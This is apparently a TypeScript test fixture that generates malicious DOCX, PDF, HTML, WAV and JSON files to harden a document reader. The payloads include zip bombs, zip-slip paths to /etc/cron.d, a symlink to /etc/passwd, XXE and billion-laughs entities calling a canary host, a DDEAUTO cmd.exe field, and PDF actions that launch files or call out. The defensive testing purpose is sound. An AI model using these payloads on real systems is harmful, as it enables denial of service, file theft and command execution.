/** Files that nobody should have to read, made here and nowhere kept. */
import { gzipSync } from "node:zlib";
import type { FileKind } from "@wingman/streams/untrusted/untrusted";
import { onePage, packed, pdf, says, stream } from "../../../harness/make-pdf.ts";
import { docx, paragraph, type Part, words, zip } from "../../../harness/make-zip.ts";

export type Bomb = {
  readonly name: string;
  readonly kind: FileKind | undefined;
  readonly bytes: Buffer;
  /** `stop`: must not be read. `tame`: may be read, as long as nothing outside is touched. */
  readonly must: "stop" | "tame";
};
export type Canary = { readonly http: string; readonly file: string };

const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1_000_000, 0x20);
const many = <Item>(count: number, of: (n: number) => Item): Item[] => Array.from({ length: count }, (_, n) => of(n));
const good = words(paragraph("hello"));

const containers = (): Record<string, Buffer> => {
  let nested = zip([{ name: "a.txt", data: zeros(1) }]);
  for (let n = 0; n < 10; n++) nested = zip(many(8, (i) => ({ name: `${i}.zip`, data: nested })));
  const slip = (name: string, more: Partial<Part> = {}): Buffer => docx(good, [{ name, data: "x", ...more }]);
  const whole = docx(good);
  return {
    "flat, 70 MB": docx(words(zeros(70).toString())),
    "flat, packed 1:1000": docx(words(zeros(50).toString())),
    "flat, ten parts of 20 MB": docx(
      good,
      many(10, (n) => ({ name: `word/${n}.xml`, data: zeros(20) })),
    ),
    "says 100 bytes, has 50 MB": zip([
      { name: "[Content_Types].xml", data: "<a/>" },
      { name: "word/document.xml", data: zeros(50), saysSize: 100 },
    ]),
    "says 4 GB": docx(good, [{ name: "word/x", data: "x", saysSize: 0xfffffffe }]),
    "says its packed size is 0": zip([
      { name: "[Content_Types].xml", data: "<a/>" },
      { name: "word/document.xml", data: good, saysPacked: 0 },
    ]),
    "says its packed size is 4 GB": docx(good, [{ name: "word/x", data: "x", saysPacked: 0xfffffffe }]),
    "60,000 parts": docx(
      good,
      many(60_000, (n) => ({ name: `x/${n}`, method: 0 })),
    ),
    "says 1 part, has 5": docx(
      good,
      many(3, (n) => ({ name: `x${n}`, data: "x" })),
      { saysCount: 1 },
    ),
    "says 65,535 parts": docx(good, [], { saysCount: 65_535 }),
    "overlapping, one kernel for 1,000": docx(good, [
      { name: "k", data: zeros(5) },
      ...many(1_000, (n) => ({ name: `k${n}`, data: zeros(0), sharesHeadOf: 2 })),
    ]),
    "overlapping, two share": docx(good, [
      { name: "a", data: "x".repeat(1_000) },
      { name: "b", data: "x".repeat(1_000), sharesHeadOf: 2 },
    ]),
    "nested ten deep": nested,
    "nested in a document's place": zip([
      { name: "[Content_Types].xml", data: "<a/>" },
      { name: "word/document.xml", data: nested, method: 0 },
    ]),
    "slip ../": slip("../../../../etc/cron.d/x"),
    "slip absolute": slip("/etc/cron.d/x"),
    "slip backslash": slip("..\\..\\x"),
    "slip drive": slip("C:/windows/x"),
    "slip inside": slip("word/../../x"),
    link: slip("word/link", { mode: 0o120777, data: "/etc/passwd" }),
    "one name twice": docx(good, [{ name: "word/document.xml", data: words(paragraph("other")) }]),
    "encrypted part": docx(good, [{ name: "word/x", data: "x", flags: 1 }]),
    "encrypted document": zip([
      { name: "[Content_Types].xml", data: "<a/>" },
      { name: "word/document.xml", data: good, flags: 1 },
    ]),
    "unknown packing": zip([
      { name: "[Content_Types].xml", data: "<a/>" },
      { name: "word/document.xml", data: good, method: 99 },
    ]),
    truncated: whole.subarray(0, whole.length - 30),
    half: whole.subarray(0, whole.length >> 1),
    "list beyond the end": docx(good, [], { listAt: 0x7fffffff }),
    "list at 0": docx(good, [], { listAt: 0 }),
    "program before it": docx(good, [], { before: Buffer.from("MZ".padEnd(512, "\0")) }),
    "an end within its end": docx(good, [], { comment: docx(words(paragraph("other"))) }),
    "no document": zip([{ name: "a.txt", data: "hello" }]),
    "no document's list": zip([{ name: "word/document.xml", data: good }]),
  };
};

const lol = (levels: number): string =>
  `<!DOCTYPE w [<!ENTITY l0 "lol">${many(levels, (n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("")}]>`;

const documents = ({ http, file }: Canary): Record<string, Buffer> => {
  const declared = (declaration: string, inside = "&x;"): Buffer => docx(words(paragraph(inside), declaration));
  const utf16 = Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from(`<?xml version="1.0" encoding="UTF-16"?>${lol(9)}<w>&l9;</w>`, "utf16le"),
  ]);
  return {
    "billion laughs": declared(lol(9), "&l9;"),
    "quadratic entity": declared(`<!DOCTYPE w [<!ENTITY x "${"x".repeat(100_000)}">]>`, "&x;".repeat(10_000)),
    "entity of a file": declared(`<!DOCTYPE w [<!ENTITY x SYSTEM "${file}">]>`),
    "entity of an address": declared(`<!DOCTYPE w [<!ENTITY x SYSTEM "${http}">]>`),
    "parameter entity": declared(`<!DOCTYPE w [<!ENTITY % x SYSTEM "${http}">%x;]>`, "x"),
    "outside document type": declared(`<!DOCTYPE w SYSTEM "${http}/x.dtd">`, "x"),
    "public document type": declared(`<!DOCTYPE w PUBLIC "-//x" "${http}/x.dtd">`, "x"),
    "laughs in UTF-16": docx(utf16),
    "laughs in the list of types": zip([
      { name: "[Content_Types].xml", data: `${lol(9)}<a>&l9;</a>` },
      { name: "word/document.xml", data: good },
    ]),
    "unknown entity": declared("", "&x;"),
    "100,000 deep": docx(words("<w:p>".repeat(100_000) + "</w:p>".repeat(100_000))),
    "never closed": docx(words("<w:p>".repeat(150))),
    "no XML": docx("this is no XML"),
    "odd letters": docx(Buffer.concat([Buffer.from('<?xml version="1.0"?><w>'), Buffer.from([0xff, 0xff, 0xff])])),
    "too much text": docx(
      words(
        many(60_000, (n) => paragraph(`${n} ${(n * 7_919).toString(36)} ${"lorem ipsum ".repeat(9)}${n * 31}`)).join(
          "",
        ),
      ),
    ),
  };
};
/** Right files that would call elsewhere if they were opened by what made them. */
const tame = ({ http, file }: Canary): Record<string, readonly [FileKind, Buffer]> => {
  const relation = (type: string, target: string): Part => ({
    name: "word/_rels/document.xml.rels",
    data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  });
  const field = `<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>`;
  return {
    "image elsewhere": [
      "docx",
      docx(words(`${paragraph("hello")}<w:drawing r:link="r1"/>`), [relation("image", `${http}/x.png`)]),
    ],
    "image in a file": ["docx", docx(words(`<w:drawing r:link="r1"/>`), [relation("image", file)])],
    "template elsewhere": ["docx", docx(good, [relation("attachedTemplate", `${http}/x.dotm`)])],
    "part elsewhere": ["docx", docx(words(`<w:altChunk r:id="r1"/>`), [relation("aFChunk", `${http}/x.html`)])],
    "field that starts a program": ["docx", docx(words(field))],
    XInclude: [
      "docx",
      docx(words(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${file}" parse="text"/>`)),
    ],
    "style sheet elsewhere": ["docx", docx(words(paragraph("x"), `<?xml-stylesheet href="${http}/x.xsl"?>`))],
    "page that calls": [
      "html",
      Buffer.from(
        `<base href="${http}"><link rel=stylesheet href=x><img src="${http}/i"><iframe src="${file}"></iframe><script src="${http}/s"></script><p>hello`,
      ),
    ],
    "SVG with an entity": [
      "html",
      Buffer.from(`<!DOCTYPE svg [<!ENTITY x SYSTEM "${file}">]><svg><text>&x;</text></svg>`),
    ],
    "PDF with a script": [
      "pdf",
      onePage(says("hello"), { catalog: `/OpenAction<</S/JavaScript/JS(app.launchURL("${http}"))>>` }),
    ],
    "PDF that launches": [
      "pdf",
      onePage(says("hello"), {
        catalog: `/OpenAction<</S/Launch/F(${file})>>`,
        page: `/AA<</O<</S/URI/URI(${http})>>>>`,
      }),
    ],
    "PDF that submits": [
      "pdf",
      onePage(says("hello"), { catalog: `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${http})>>>>` }),
    ],
    "PDF with content elsewhere": ["pdf", onePage(stream("", `/F<</FS/URL/F(${http})>>`))],
    "PDF with content in a file": ["pdf", onePage(stream("", `/F(${file.replace("file://", "")})`))],
    "PDF with a font elsewhere": [
      "pdf",
      onePage(says("hello"), { resources: "/ExtGState<<>>", more: [stream("", `/F<</FS/URL/F(${http})>>`)] }),
    ],
  };
};

const papers = (): Record<string, Buffer> => {
  const space = zeros(250);
  const kids = (count: number): Buffer =>
    pdf([
      "<</Type/Catalog/Pages 2 0 R>>",
      `<</Type/Pages/Kids[${"3 0 R ".repeat(count)}]/Count ${count}>>`,
      "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 1]>>",
    ]);
  const whole = onePage(says("hello"));
  return {
    "stream of 250 MB": onePage(packed(space)),
    "stream packed twice": onePage(packed(space, 2)),
    "stream packed three times, in twenty pages": pdf([
      "<</Type/Catalog/Pages 2 0 R>>",
      `<</Type/Pages/Kids[${"3 0 R ".repeat(20)}]/Count 20>>`,
      "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 1]/Contents 4 0 R>>",
      packed(space, 3),
    ]),
    "has 10^6 pages": kids(1_000_000),
    "pages in a circle": pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 5>>"]),
    "pages in a larger circle": pdf([
      "<</Type/Catalog/Pages 2 0 R>>",
      "<</Type/Pages/Kids[3 0 R]/Count 5>>",
      "<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 5>>",
    ]),
    "a catalogue that is itself": pdf(["1 0 R"]),
    encrypted: onePage(says("hello"), {
      more: [`<</Filter/Standard/V 2/R 3/Length 128/P -44/O<${"41".repeat(32)}>/U<${"42".repeat(32)}>>>`],
      trailer: `/Encrypt 6 0 R/ID[<${"43".repeat(16)}><${"43".repeat(16)}>]`,
    }),
    "list in a circle": Buffer.from("%PDF-1.7\nxref\n0 0\ntrailer\n<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF"),
    truncated: whole.subarray(0, 40),
    "nothing but its name": Buffer.from("%PDF-1.7\n"),
    "ten million brackets": pdf([Buffer.alloc(10_000_000, "[")]),
    "two million dictionaries": pdf([Buffer.from("<</A".repeat(2_000_000))]),
    "a word that never ends": pdf([Buffer.concat([Buffer.from("("), Buffer.alloc(20_000_000, "a")])]),
    "a program named so": Buffer.concat([Buffer.from("\x7fELF"), Buffer.alloc(100_000)]),
  };
};
/** Circles and weights that a reader may walk around. */
const papersTame = (): Record<string, Buffer> => ({
  "half a million words": onePage(packed(Buffer.from(says("lorem ipsum dolor sit amet ".repeat(40)).repeat(12_000)))),
  "a page whose parent is itself": pdf([
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>",
    "<</Type/Page/Parent 3 0 R>>",
  ]),
  "says -1 pages": pdf([
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count -1>>",
    "<</Type/Page/Parent 2 0 R>>",
  ]),
  "says 10^6 pages": pdf([
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1000000>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 1]>>",
  ]),
  "form that draws itself": onePage("/X Do", {
    resources: "/XObject<</X 6 0 R>>",
    more: [stream("/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X 6 0 R>>>>")],
  }),
  "forms that draw each other 2^24 times": onePage("/X Do", {
    resources: "/XObject<</X 6 0 R>>",
    more: many(24, (n) =>
      stream("/X Do /X Do", `/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X ${n + 7} 0 R>>>>`),
    ),
  }),
  "letter that draws itself": onePage("BT /G 12 Tf (aaaa) Tj ET", {
    resources: "/Font<</G 6 0 R>>",
    more: [
      "<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>/Resources<</Font<</G 6 0 R>>>>>>",
      stream("BT /G 12 Tf (aaaa) Tj ET"),
    ],
  }),
  "map that uses itself": onePage("BT /G 12 Tf <0001> Tj ET", {
    resources: "/Font<</G 6 0 R>>",
    more: [
      "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 7 0 R/DescendantFonts[8 0 R]/ToUnicode 7 0 R>>",
      stream(
        "begincmap 1 begincodespacerange <0000><ffff> endcodespacerange 1 beginbfrange <0000><ffff><0000> endbfrange endcmap",
        "/Type/CMap/UseCMap 7 0 R",
      ),
      "<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(A)/Ordering(B)/Supplement 0>>>>",
    ],
  }),
  "image of 10^10 points": onePage("/I Do", {
    resources: "/XObject<</I 6 0 R>>",
    more: [
      stream("x", "/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB"),
    ],
  }),
  "three million operators": onePage(packed(Buffer.from("q Q ".repeat(3_000_000)))),
  "length that is itself": onePage(Buffer.from("<</Length 5 0 R>>\nstream\nBT ET\nendstream")),
});

const others = (): Record<string, readonly [FileKind | undefined, Buffer]> => {
  const whole = docx(good);
  const paper = onePage(says("hello"));
  const wav = (change: (head: Buffer) => void): Buffer => {
    const head = Buffer.alloc(44);
    head.write("RIFF", 0, "latin1");
    head.write("WAVEfmt ", 8, "latin1");
    head.writeUInt32LE(16, 16);
    head.writeUInt16LE(1, 20);
    head.writeUInt16LE(1, 22);
    head.writeUInt32LE(16_000, 24);
    head.writeUInt32LE(32_000, 28);
    head.writeUInt16LE(2, 32);
    head.writeUInt16LE(16, 34);
    head.write("data", 36, "latin1");
    change(head);
    return head;
  };
  return {
    "PDF and container in one": ["pdf", Buffer.concat([paper, whole])],
    "container with a PDF's name": ["docx", docx(good, [], { before: Buffer.from("%PDF-1.7\n") })],
    "sound and container in one": ["wav", Buffer.concat([wav(() => undefined), whole])],
    "page and container in one": ["html", Buffer.concat([Buffer.from("<p>hello</p>"), whole])],
    "PDF named DOCX": ["docx", paper],
    "DOCX named PDF": ["pdf", whole],
    "picture named text": ["txt", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex")],
    "packed by gzip": [undefined, gzipSync(zeros(20))],
    "archive of another kind": [undefined, Buffer.from("Rar!\x1a\x07\x01\x00".padEnd(600, "\0"), "latin1")],
    "old Word file": [undefined, Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(512)])],
    "26 MB": ["txt", Buffer.alloc(26_000_000, "a")],
    nothing: ["txt", Buffer.alloc(0)],
    "text with NUL": ["txt", Buffer.from("a\0b")],
    "text of no letters": ["txt", Buffer.from([0x61, 0xc3, 0x28, 0xff])],
    "JSON a million deep": ["json", Buffer.from("[".repeat(1_000_000))],
    "JSON never closed": ["json", Buffer.from(`[${"1,".repeat(1_000_000)}`)],
    "page of a million boxes": ["html", Buffer.from("<div>".repeat(1_000_000))],
    "sound without channels": ["wav", wav((head) => head.writeUInt16LE(0, 22))],
    "sound of no kind": ["wav", wav((head) => head.writeUInt16LE(0x55, 20))],
    "sound whose parts never end": [
      "wav",
      Buffer.concat([Buffer.from("RIFF\0\0\0\0WAVE", "latin1"), Buffer.from("junk\0\0\0\0".repeat(100_000), "latin1")]),
    ],
  };
};
const othersTame = (): Record<string, readonly [FileKind, Buffer]> => ({
  "JSON of many small things": ["json", Buffer.from(`[${many(400_000, () => "{}").join(",")}]`)],
  "text of blanks": ["html", Buffer.from(`<p>${" \n\t".repeat(1_500_000)}</p>`)],
  "text of entities": ["html", Buffer.from("&amp".repeat(1_000_000))],
  "one tag of many attributes": ["html", Buffer.from(`<p ${many(300_000, (n) => `a${n}=x`).join(" ")}>hello`)],
});

export const bombs = (canary: Canary): Bomb[] => [
  ...Object.entries(containers()).map(([name, bytes]): Bomb => ({
    name: `container: ${name}`,
    kind: "docx",
    bytes,
    must: "stop",
  })),
  ...Object.entries(documents(canary)).map(([name, bytes]): Bomb => ({
    name: `document: ${name}`,
    kind: "docx",
    bytes,
    must: "stop",
  })),
  ...Object.entries(papers()).map(([name, bytes]): Bomb => ({
    name: `PDF: ${name}`,
    kind: "pdf",
    bytes,
    must: "stop",
  })),
  ...Object.entries(others()).map(([name, [kind, bytes]]): Bomb => ({ name, kind, bytes, must: "stop" })),
  ...Object.entries(tame(canary)).map(([name, [kind, bytes]]): Bomb => ({ name, kind, bytes, must: "tame" })),
  ...Object.entries(papersTame()).map(([name, bytes]): Bomb => ({
    name: `PDF: ${name}`,
    kind: "pdf",
    bytes,
    must: "tame",
  })),
  ...Object.entries(othersTame()).map(([name, [kind, bytes]]): Bomb => ({ name, kind, bytes, must: "tame" })),
];
